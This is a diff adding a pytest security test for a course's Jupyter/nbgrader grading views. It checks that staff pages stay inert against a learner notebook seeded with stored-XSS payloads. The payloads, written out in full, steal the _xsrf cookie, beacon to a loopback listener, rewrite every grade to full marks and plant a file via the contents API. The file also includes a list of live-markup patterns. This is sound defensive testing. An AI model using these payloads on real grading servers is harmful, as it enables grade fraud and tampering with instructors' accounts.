@@ -1,0 +1,401 @@
+"""Staff views are inert, in a real browser: a learner's script never runs for the staff.
+
+One small class (an honest learner, one with a catalogued mistake, and the same
+mistake from an attacker whose outputs, markdown, raw cell, written answer,
+notebook metadata and an extra file all carry script) is graded with `make
+grade`, given feedback and a TA report. Then headless Chromium opens, as the
+instructor, formgrader's pages of the attacker's submission, the feedback page
+through /files/ and from disk, the TA report, the autograded notebook through
+/files/ and /nbconvert/, and the extra file. The script would send a beacon to a
+loopback listener the test runs and, with formgrader's _xsrf cookie, PUT every
+grade to full marks plus extra credit and a file through /api/contents. A
+control page (the submitted notebook rendered by plain nbconvert, from disk)
+shows the same script does fire there. Screenshots land next to the course
+(formgrader.png, formgrader_outputs.png, feedback.png) to look at.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import copy
+import json
+import secrets
+import subprocess
+import sys
+import threading
+import time
+import urllib.request
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+
+import nbformat
+import pytest
+from nbconvert import HTMLExporter
+
+from coursekit import submissions
+from coursekit.release import venv_environment
+from tests.course_sandbox import CourseSandbox
+from tests.test_formgrader_browser import CHROMIUM, FLAGS, free_port
+
+ASSIGNMENT, NOTEBOOK = "ch3_multihead", "multihead"
+HONEST, PLAIN_MISTAKE, ATTACKER = "honest-01", "mistake-02", "mallory-03"
+STAFF_SERVER = "--ServerApp.jpserver_extensions={'coursekit.staff_server': True}"  # as make lab
+MISTAKE = (
+    "def split_heads(M, h):\n    n, d_model = M.shape\n    return M.reshape(h, n, d_model // h)\n"
+)
+DIAGNOSIS = "짐작되는 실수 [reshape_without_transpose]"
+
+# A table (pandas HTML) and a heatmap (image/png) every learner shows, as the course's cells do.
+SHOWN = """import matplotlib
+matplotlib.use("module://matplotlib_inline.backend_inline")
+import matplotlib.pyplot as plt
+from IPython.display import display
+
+display(pd.DataFrame(np.eye(3).round(2), index=list("abc"), columns=list("xyz")))
+plt.figure(figsize=(3, 3))
+plt.imshow(np.eye(4), cmap="Blues")
+plt.title("heatmap")
+plt.show()
+"""
+
+
+def payload(port: int, where: str) -> str:
+    """JavaScript that tells the listener it ran, then tries the instructor's APIs."""
+    return (
+        (
+            "(function(w){var b='http://127.0.0.1:PORT/beacon/'+w;"
+            "try{new Image().src=b}catch(e){}try{navigator.sendBeacon(b)}catch(e){}"
+            "try{fetch(b,{mode:'no-cors'})}catch(e){}"
+            "var x=decodeURIComponent((document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'');"
+            "var h={'X-XSRFToken':x,'Content-Type':'application/json'};"
+            "var m=location.pathname.match(/^(.*)\\/formgrader\\/submissions\\/([^\\/]+)/);"
+            "var base=m?m[1]:'';"
+            "if(m){fetch(base+'/formgrader/api/grades?submission_id='+m[2]).then(function(r){"
+            "return r.json()}).then(function(gs){gs.forEach(function(g){"
+            "fetch(base+'/formgrader/api/grade/'+g.id,{method:'PUT',headers:h,"
+            "body:JSON.stringify({manual_score:g.max_score,extra_credit:1})})})})}"
+            "fetch(base+'/api/contents/pwned_'+w+'.txt',{method:'PUT',headers:h,"
+            "body:JSON.stringify({type:'file',format:'text',content:'pwned'})});"
+            "})('WHERE')"
+        )
+        .replace("PORT", str(port))
+        .replace("WHERE", where)
+    )
+
+
+def attack(port: int, where: str) -> str:
+    """HTML with the payload twice: a <script> and an <img onerror>."""
+    js = payload(port, where)
+    return f'<script>{js}</script><img src="x" onerror="{js.replace(chr(34), "&quot;")}">'
+
+
+def hostile_outputs(port: int) -> str:
+    """Code appended to the attacker's answer cell: displays produced when the grader re-runs it."""
+    onload = payload(port, "svg-onload").replace('"', "&quot;")
+    svg = (
+        f'<svg xmlns="http://www.w3.org/2000/svg" onload="{onload}">'
+        f"<script>{payload(port, 'svg-script')}</script></svg>"
+    )
+    widget = {"application/vnd.jupyter.widget-view+json": {"model_id": "x", "version_major": 2}}
+    return "\n".join(
+        [
+            "from IPython.display import HTML, SVG, Javascript, Markdown, display",
+            f"display(HTML({attack(port, 'output-html')!r}))",
+            f"display(Javascript({payload(port, 'output-javascript')!r}))",
+            f"display(Markdown({attack(port, 'output-markdown')!r}))",
+            f"display(SVG({svg!r}))",
+            f"display({{**{widget!r}, 'text/html': {attack(port, 'output-widget')!r}}}, raw=True)",
+        ]
+    )
+
+
+def attacker_notebook(release, source, port: int):
+    nb = submissions.fill(release, source, replace={"split_heads": MISTAKE + hostile_outputs(port)})
+    for cell in nb.cells:
+        if cell.metadata.get("nbgrader", {}).get("grade_id") == "why_256_answer":
+            cell.source = "head 를 늘리면 d_head 가 줄어듭니다. " + attack(port, "written-answer")
+    extra = [
+        nbformat.v4.new_markdown_cell(
+            "제 풀이 노트: [notes.html](notes.html)\n\n" + attack(port, "markdown-cell")
+        ),
+        nbformat.v4.new_raw_cell(attack(port, "raw-cell")),
+    ]
+    # A tag may hold no comma (nbformat's schema): a short beacon.
+    beacon = f"new Image().src='http://127.0.0.1:{port}/beacon/tag'"
+    extra[0].metadata["tags"] = [f'x" onmouseover="{beacon}" class="']
+    nb.cells[40:40] = extra
+    nb.metadata["widgets"] = {
+        "application/vnd.jupyter.widget-state+json": {
+            "state": {},
+            "version_major": 2,
+            "version_minor": 0,
+            "x": f"</script><script>{payload(port, 'widget-state')}</script>",
+        }
+    }
+    return nb
+
+
+def with_shown_cell(nb):
+    nb = copy.deepcopy(nb)
+    nb.cells.insert(22, nbformat.v4.new_code_cell(SHOWN))
+    return nb
+
+
+class Listener:
+    """A loopback HTTP server that records every request (the beacons)."""
+
+    def __init__(self):
+        hits = self.hits = []
+
+        class Handler(BaseHTTPRequestHandler):
+            def _record(self):
+                hits.append(self.path)
+                self.send_response(204)
+                self.send_header("Access-Control-Allow-Origin", "*")
+                self.end_headers()
+
+            do_GET = do_POST = do_PUT = do_OPTIONS = _record  # noqa: N815
+
+            def log_message(self, *args):
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.port = self.server.server_address[1]
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+
+    def close(self):
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def grades(course) -> dict[str, tuple]:
+    """grade id -> (auto, manual, extra credit) of the attacker, from the gradebook."""
+    with course.gradebook() as gb:
+        nb = gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, ATTACKER)
+        return {g.name: (g.auto_score, g.manual_score, g.extra_credit) for g in nb.grades}
+
+
+@pytest.fixture(scope="module")
+def staff_class(tmp_path_factory):
+    """The class graded, its feedback and report made, and the instructor's `make lab` running."""
+    root = tmp_path_factory.mktemp("staff_views")
+    course = CourseSandbox(root)
+    listener = Listener()
+    course.generate(ASSIGNMENT)
+    release, source = course.release_notebook(ASSIGNMENT), course.source_notebook(ASSIGNMENT)
+    course.submit(HONEST, ASSIGNMENT, with_shown_cell(submissions.fill(release, source)))
+    plain = submissions.fill(release, source, replace={"split_heads": MISTAKE})
+    course.submit(PLAIN_MISTAKE, ASSIGNMENT, with_shown_cell(plain))
+    hostile = with_shown_cell(attacker_notebook(release, source, listener.port))
+    folder = course.submit(ATTACKER, ASSIGNMENT, hostile)
+    (folder / "notes.html").write_text(attack(listener.port, "extra-file"), encoding="utf-8")
+    course.grade("-j", "2")
+    course.run("generate_feedback", ASSIGNMENT, "--force")
+    report = subprocess.run(
+        [sys.executable, "-m", "coursekit.report", ASSIGNMENT, "--root", str(root)],
+        cwd=root, env=venv_environment(), capture_output=True, text=True, timeout=600,
+    )  # fmt: skip
+    assert report.returncode == 0, report.stdout[-2000:] + report.stderr[-2000:]
+
+    port, token = free_port(), secrets.token_hex(16)
+    log = (root / "lab.log").open("w")
+    server = subprocess.Popen(
+        [str(Path(sys.executable).parent / "jupyter"), "lab", "--no-browser", STAFF_SERVER,
+         "--allow-root", "--ServerApp.ip=127.0.0.1", f"--ServerApp.port={port}",
+         f"--IdentityProvider.token={token}", f"--ServerApp.root_dir={root}"],
+        cwd=root, env={**venv_environment(), "JUPYTER_RUNTIME_DIR": str(root / "runtime")},
+        stdout=log, stderr=subprocess.STDOUT,
+    )  # fmt: skip
+    base = f"http://127.0.0.1:{port}"
+    try:
+        deadline = time.monotonic() + 90
+        while True:
+            try:
+                urllib.request.urlopen(f"{base}/api/status?token={token}", timeout=5)
+                break
+            except OSError:
+                assert server.poll() is None, (root / "lab.log").read_text()
+                assert time.monotonic() < deadline, "jupyter lab did not start"
+                time.sleep(1)
+        yield course, listener, base, token
+    finally:
+        server.terminate()
+        server.wait(timeout=30)
+        log.close()
+        listener.close()
+
+
+def submission_id(course, student: str) -> str:
+    with course.gradebook() as gb:
+        return gb.find_submission_notebook(NOTEBOOK, ASSIGNMENT, student).id
+
+
+def settle(page, listener, seconds: float = 2.0) -> None:
+    """Let a page's scripts (if any ran) reach the listener."""
+    # A page still loading something is judged all the same.
+    with contextlib.suppress(Exception):
+        page.wait_for_load_state("networkidle", timeout=15_000)
+    time.sleep(seconds)
+
+
+def visible(page, selector: str) -> bool:
+    return page.locator(selector).first.is_visible()
+
+
+def heatmap_drawn(page) -> bool:
+    return page.evaluate(
+        "() => [...document.querySelectorAll('img[src^=\"data:image/png\"]')]"
+        ".some(i => i.complete && i.naturalWidth > 100)"
+    )
+
+
+def test_the_payload_is_live_outside_the_staff_views(staff_class, tmp_path):
+    """Control: the attacker's submitted notebook, rendered by plain nbconvert, fires the beacon."""
+    from playwright.sync_api import sync_playwright
+
+    course, listener, _, _ = staff_class
+    submitted = course.root / "submitted" / ATTACKER / ASSIGNMENT / f"{NOTEBOOK}.ipynb"
+    nb = nbformat.read(submitted, as_version=4)
+    body, _ = HTMLExporter().from_notebook_node(nb)
+    page_file = tmp_path / "raw.html"
+    page_file.write_text(body, encoding="utf-8")
+    before = len(listener.hits)
+    with sync_playwright() as p:
+        browser = p.chromium.launch(executable_path=str(CHROMIUM), args=FLAGS, headless=True)
+        try:
+            page = browser.new_page()
+            page.goto(page_file.as_uri())
+            settle(page, listener)
+        finally:
+            browser.close()
+    fired = listener.hits[before:]
+    del listener.hits[before:]  # the control's beacons are not the staff views'
+    assert {"/beacon/markdown-cell", "/beacon/written-answer"} <= set(fired), fired
+
+
+def test_no_learner_script_runs_in_formgrader_feedback_or_the_report(staff_class, tmp_path):
+    from playwright.sync_api import sync_playwright
+
+    course, listener, base, token = staff_class
+    assert CHROMIUM.exists(), "no /usr/bin/chromium: `make chromium` installs it"
+    root = course.root
+    before = grades(course)
+    attacker, honest = submission_id(course, ATTACKER), submission_id(course, HONEST)
+    feedback = root / "feedback" / ATTACKER / ASSIGNMENT / f"{NOTEBOOK}.html"
+    report = root / "reports" / f"{ASSIGNMENT}.html"
+    autograded = f"autograded/{ATTACKER}/{ASSIGNMENT}"
+    seen = {}
+    with sync_playwright() as p:
+        browser = p.chromium.launch_persistent_context(
+            str(tmp_path / "chromium-profile"), executable_path=str(CHROMIUM), args=FLAGS,
+            headless=True, viewport={"width": 1280, "height": 900}, accept_downloads=True,
+        )  # fmt: skip
+        try:
+            page = browser.new_page()
+            page.goto(f"{base}/formgrader?token={token}")
+            page.wait_for_selector(f"text={ASSIGNMENT}")
+
+            # Manual Grading: the attacker's submission, as the instructor opens it.
+            page.goto(f"{base}/formgrader/submissions/{attacker}/")
+            settle(page, listener)
+            page.locator("input#why_256_answer").wait_for(state="visible")
+            seen["formgrader"] = page.inner_text("body")
+            seen["formgrader_table"] = visible(page, "table.dataframe")
+            seen["formgrader_heatmap"] = heatmap_drawn(page)
+            page.locator(f"text={DIAGNOSIS}").first.scroll_into_view_if_needed()
+            page.screenshot(path=str(root / "formgrader.png"))
+            page.locator("table.dataframe").first.scroll_into_view_if_needed()
+            page.screenshot(path=str(root / "formgrader_outputs.png"))
+            # formgrader's own script still works: a TA's score is saved.
+            saved = lambda r: "/api/grade/" in r.url and r.request.method == "PUT"  # noqa: E731
+            with page.expect_response(saved, timeout=60_000):
+                page.locator("input#why_256_answer").fill("1")
+                page.locator("input#why_256_answer").press("Tab")
+            # The attacker's extra file, linked from the notebook: a download, not a page.
+            with page.expect_download() as download:
+                page.click("a[href='notes.html']")
+            seen["download"] = download.value.suggested_filename
+            # Its neighbours and the lists that show submissions.
+            for path in (
+                f"/formgrader/submissions/{honest}/",
+                f"/formgrader/gradebook/{ASSIGNMENT}/{NOTEBOOK}",
+                f"/formgrader/manage_students/{ATTACKER}/{ASSIGNMENT}",
+                f"/formgrader/manage_submissions/{ASSIGNMENT}",
+            ):
+                page.goto(base + path)
+                settle(page, listener, 1.0)
+            # The same material under /files/ and /nbconvert/, and the feedback page.
+            for path in (
+                f"/files/{autograded}/notes.html",
+                f"/files/submitted/{ATTACKER}/{ASSIGNMENT}/notes.html",
+                f"/nbconvert/html/{autograded}/{NOTEBOOK}.ipynb?download=false",
+                f"/files/reports/{ASSIGNMENT}.html",
+                f"/files/feedback/{ATTACKER}/{ASSIGNMENT}/{NOTEBOOK}.html",
+            ):
+                # As JupyterLab opens them (Jupyter refuses /files/ without a referer).
+                response = page.goto(base + path, referer=f"{base}/lab")
+                assert response.status == 200, (path, response.status)
+                settle(page, listener, 1.0)
+            seen["feedback_files"] = page.inner_text("body")
+            # From disk: the feedback page and the TA report.
+            page.goto(feedback.as_uri())
+            settle(page, listener)
+            seen["feedback"] = page.inner_text("body")
+            seen["feedback_table"] = visible(page, "table.dataframe")
+            seen["feedback_heatmap"] = heatmap_drawn(page)
+            page.screenshot(path=str(root / "feedback.png"), full_page=False)
+            page.goto(report.as_uri())
+            settle(page, listener)
+            seen["report"] = page.inner_text("body")
+        finally:
+            browser.close()
+    time.sleep(2)
+
+    assert listener.hits == [], listener.hits
+    after = grades(course)
+    expected = {**before, "why_256_answer": (before["why_256_answer"][0], 1.0, None)}
+    assert after == expected, (before, after)
+    assert sorted(p.name for p in root.rglob("pwned_*")) == []
+    assert seen["download"] == "notes.html"
+
+    assert DIAGNOSIS in seen["formgrader"]
+    assert seen["formgrader_table"] and seen["formgrader_heatmap"]
+    assert "요약: 함수마다 점수와 첫 번째 진단" in seen["feedback"]
+    assert "요약: 함수마다 점수와 첫 번째 진단" in seen["feedback_files"]
+    assert DIAGNOSIS in seen["feedback"]
+    assert seen["feedback_table"] and seen["feedback_heatmap"]
+    assert "조교용 채점 보고서" in seen["report"] and ATTACKER in seen["report"]
+
+
+def test_honest_learners_are_graded_as_without_the_attacker(staff_class):
+    course = staff_class[0]
+    scores, max_scores = course.scores(ASSIGNMENT), course.max_scores(ASSIGNMENT)
+    automatic = [g for g in max_scores if g != "why_256_answer"]
+    assert all(scores[HONEST][g] == max_scores[g] for g in automatic), scores[HONEST]
+    # The script in its outputs and cells changes nothing in the attacker's own grades.
+    assert {g: scores[ATTACKER][g] for g in automatic} == {
+        g: scores[PLAIN_MISTAKE][g] for g in automatic
+    }
+    assert scores[PLAIN_MISTAKE]["split_heads_seed"] == 0
+
+
+def test_the_autograded_notebook_keeps_no_live_markup(staff_class):
+    """What formgrader renders: markdown, raw cells, outputs and metadata hold no live markup
+    (the answer's code itself is shown as highlighted text)."""
+    course = staff_class[0]
+    nb = course.autograded_notebook(ATTACKER, ASSIGNMENT)
+    rendered = [json.dumps(nb.metadata)]
+    for cell in nb.cells:
+        rendered.append(json.dumps(cell.metadata))
+        if cell.cell_type == "code":
+            rendered.append(json.dumps(cell.get("outputs", [])))
+        else:
+            rendered.append(cell.source)
+    text = "\n".join(rendered)
+    for live in ("<script", "onerror", "onload", "onmouseover", "application/javascript"):
+        assert live not in text, live
+    assert "head 를 늘리면 d_head 가 줄어듭니다." in text  # the written answer is still there
+    honest = course.autograded_notebook(HONEST, ASSIGNMENT)
+    outputs = [o for c in honest.cells if c.cell_type == "code" for o in c.get("outputs", [])]
+    kinds = {m for o in outputs for m in o.get("data", {})}
+    assert {"text/html", "image/png", "text/plain"} <= kinds, kinds
